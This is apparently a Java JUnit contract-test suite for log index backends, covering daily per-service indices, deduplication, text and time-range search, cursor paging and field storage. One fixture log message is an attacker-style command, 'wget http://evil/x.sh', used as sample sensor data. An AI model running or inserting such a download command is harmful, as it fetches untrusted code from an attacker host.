package io.rustbucket.logs.index;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.rustbucket.core.json.Json;
import io.rustbucket.logs.ecs.EcsNormalizer;
import io.rustbucket.logs.ecs.LogEvent;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** What every log index backend does; the OpenSearch backend will run the same suite. */
public interface LogIndexContract {
    /** A fresh, empty index. */
    LogIndex index();

    /** Makes written events searchable now (a refresh); backends refresh by themselves within a second. */
    void refresh(LogIndex index);

    static LogEvent event(String json) {
        try {
            return EcsNormalizer.normalize(Json.mapper().readTree(json), Instant.parse("2026-05-05T10:00:00Z"));
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static LogEvent at(String time, String service, String level, String message, String ip) {
        return event("{\"@timestamp\":\"" + time + "\",\"service.name\":\"" + service + "\",\"log.level\":\"" + level
                + "\",\"message\":\"" + message + "\",\"source\":{\"ip\":\"" + ip + "\"}}");
    }

    private static LogQuery all(int size) {
        return new LogQuery("", Map.of(), null, null, size, null);
    }

    @Test
    default void storageReportsFreeSpaceAndNoWriteBlocks() {
        LogIndex idx = index();
        idx.index(List.of(at("2026-05-05T10:00:00Z", "sensor", "INFO", "a", "1.1.1.1")));
        IndexStorage s = idx.storage();
        assertThat(s.totalBytes()).isPositive();
        assertThat(s.freeBytes()).isPositive().isLessThanOrEqualTo(s.totalBytes());
        assertThat(s.readOnlyIndices()).isEmpty();
        assertThat(s.where()).isNotBlank();
    }

    @Test
    default void writesGoToDailyIndicesPerService() {
        LogIndex idx = index();
        idx.index(List.of(
                at("2026-05-05T10:00:00Z", "sensor", "INFO", "a", "1.1.1.1"),
                at("2026-05-06T10:00:00Z", "sensor", "INFO", "b", "1.1.1.1"),
                at("2026-05-06T11:00:00Z", "API", "INFO", "c", "1.1.1.1")));
        assertThat(idx.indices())
                .containsExactly("logs-api-2026.05.06", "logs-sensor-2026.05.05", "logs-sensor-2026.05.06");
    }

    @Test
    default void sameIdTwiceIsOneDocument() {
        LogIndex idx = index();
        LogEvent e = at("2026-05-05T10:00:00Z", "sensor", "INFO", "retried", "1.1.1.1");
        idx.index(List.of(e));
        idx.index(List.of(e));
        refresh(idx);
        assertThat(idx.search(all(10)).total()).isEqualTo(1);
    }

    @Test
    default void newestFirstWithFiltersTextAndTimeRange() {
        LogIndex idx = index();
        idx.index(List.of(
                at("2026-05-05T10:00:00Z", "sensor", "WARN", "login attempt root", "203.0.113.7"),
                at("2026-05-05T11:00:00Z", "sensor", "INFO", "login attempt admin", "203.0.113.8"),
                at("2026-05-05T12:00:00Z", "api", "ERROR", "database timeout", "10.0.0.1"),
                at("2026-05-06T09:00:00Z", "sensor", "WARN", "wget http://evil/x.sh", "203.0.113.7")));
        refresh(idx);
        SearchPage login = idx.search(new LogQuery("login", Map.of(), null, null, 10, null));
        assertThat(login.hits())
                .extracting(h -> h.get("message"))
                .containsExactly("login attempt admin", "login attempt root");
        SearchPage byIp = idx.search(
                new LogQuery("", Map.of("source.ip", "203.0.113.7", "log.level", "WARN"), null, null, 10, null));
        assertThat(byIp.total()).isEqualTo(2);
        SearchPage range = idx.search(new LogQuery(
                "",
                Map.of("service.name", "sensor"),
                Instant.parse("2026-05-05T10:30:00Z"),
                Instant.parse("2026-05-06T23:00:00Z"),
                10,
                null));
        assertThat(range.hits())
                .extracting(h -> h.get("message"))
                .containsExactly("wget http://evil/x.sh", "login attempt admin");
        assertThat(idx.search(new LogQuery("message:timeout", Map.of(), null, null, 10, null))
                        .total())
                .isEqualTo(1);
    }

    @Test
    default void pagingWithSearchAfterVisitsEveryEventOnce() {
        LogIndex idx = index();
        List<LogEvent> events = new ArrayList<>();
        for (int i = 0; i < 95; i++) {
            // Many share a timestamp: the id breaks the tie, so no page repeats or skips one.
            events.add(at("2026-05-05T10:00:0" + (i % 3) + "Z", "svc", "INFO", "event " + i, "1.1.1.1"));
        }
        idx.index(events);
        refresh(idx);
        Set<Object> seen = new HashSet<>();
        LogQuery.Cursor after = null;
        int pages = 0;
        do {
            SearchPage p = idx.search(new LogQuery("", Map.of(), null, null, 10, after));
            assertThat(p.total()).isEqualTo(95);
            p.hits().forEach(h -> assertThat(seen.add(h.get("event.id"))).isTrue());
            after = p.nextAfter() == null ? null : LogQuery.Cursor.decode(p.nextAfter());
            pages++;
        } while (after != null);
        assertThat(seen).hasSize(95);
        assertThat(pages).isEqualTo(10);
    }

    @Test
    default void badQueryStringIsAClearError() {
        LogIndex idx = index();
        idx.index(List.of(at("2026-05-05T10:00:00Z", "svc", "INFO", "x", "1.1.1.1")));
        refresh(idx);
        assertThatThrownBy(() -> idx.search(new LogQuery("message:(unclosed", Map.of(), null, null, 10, null)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("cannot parse q");
    }

    @Test
    default void deletingAnIndexRemovesItsEventsOnly() {
        LogIndex idx = index();
        idx.index(List.of(
                at("2026-05-01T10:00:00Z", "svc", "INFO", "old", "1.1.1.1"),
                at("2026-05-05T10:00:00Z", "svc", "INFO", "new", "1.1.1.1")));
        idx.deleteIndex("logs-svc-2026.05.01");
        refresh(idx);
        assertThat(idx.indices()).containsExactly("logs-svc-2026.05.05");
        assertThat(idx.search(all(10)).hits()).extracting(h -> h.get("message")).containsExactly("new");
    }

    @Test
    default void storedEventKeepsLabelsAndFields() {
        LogIndex idx = index();
        idx.index(
                List.of(
                        event(
                                "{\"message\":\"m\",\"labels\":{\"env\":\"prod\"},\"fields\":{\"n\":{\"deep\":[1,2]}},\"custom.thing\":7}")));
        refresh(idx);
        Map<String, Object> hit = idx.search(all(1)).hits().getFirst();
        assertThat(hit.get("labels")).isEqualTo(Map.of("env", "prod"));
        assertThat(hit.get("fields")).isEqualTo(Map.of("n", Map.of("deep", List.of(1, 2)), "custom.thing", 7));
        assertThat(idx.search(new LogQuery("", Map.of("labels.env", "prod"), null, null, 1, null))
                        .total())
                .isEqualTo(1);
    }
}
